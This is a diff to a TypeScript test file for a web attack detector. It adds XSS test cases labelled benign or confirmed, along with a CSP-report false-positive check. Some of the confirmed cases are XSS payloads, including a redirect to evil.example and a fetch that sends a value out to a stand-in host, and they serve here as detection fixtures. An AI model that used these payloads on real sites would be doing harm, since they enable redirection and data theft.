@@ -107,6 +107,12 @@ const CASES: Array<[klass: string, text: string, confirmed: boolean]> = [
   ["xss", "javascript:;", false],
   ["xss", "javascript:void(0)", false],
   ["xss", "[object Object]", false],
+  // a member of the global object acts when it is a sink or a handler itself, not a page's own global
+  ["xss", "window.dataLayer = window.dataLayer || [];", false],
+  ["xss", "if (self.Sentry) self.Sentry.init({ dsn: x })", false],
+  ["xss", "window.location='//evil.example'", true],
+  ["xss", "top.onerror=alert", true],
+  ["xss", "self.fetch('//x.example/'+c)", true],
   ["xss", "script-src 'self' 'unsafe-inline'", false],
   // A tag must be able to act: an active element, the end of a raw-text one, or an attribute value.
   ["xss", "<svg/onload=alert(1)>", true],
@@ -624,7 +630,9 @@ describe("semantic confirmation", () => {
   it("holds unconfirmed windows outside the attack bands: real-traffic shapes score over 50", () => {
     for (const [where, text] of [["query", "ids=516,516,4,4,4,4,7,7"], ["query", "href=javascript:void(0)"], ["body:json", '{"v":"[object Object]"}'],
       // A CSP report's sample of the script it blocked (`'report-sample'`): scored 16 when `.log(` read as a log file's name.
-      ["body:json", JSON.stringify({ "csp-report": { "document-uri": "https://shop.example/", "script-sample": "console.log('x')" } })]] as const) {
+      ["body:json", JSON.stringify({ "csp-report": { "document-uri": "https://shop.example/", "script-sample": "console.log('x')" } })],
+      // Google Tag Manager's first line as such a sample: scored 20 when any member of `window` read as script.
+      ["body:json", JSON.stringify({ "csp-report": { "document-uri": "https://shop.example/", "script-sample": "window.dataLayer = window.dataLayer || [" } })]] as const) {
       expect(core.score(where, text).score, text).toBeGreaterThan(50);
     }
   });
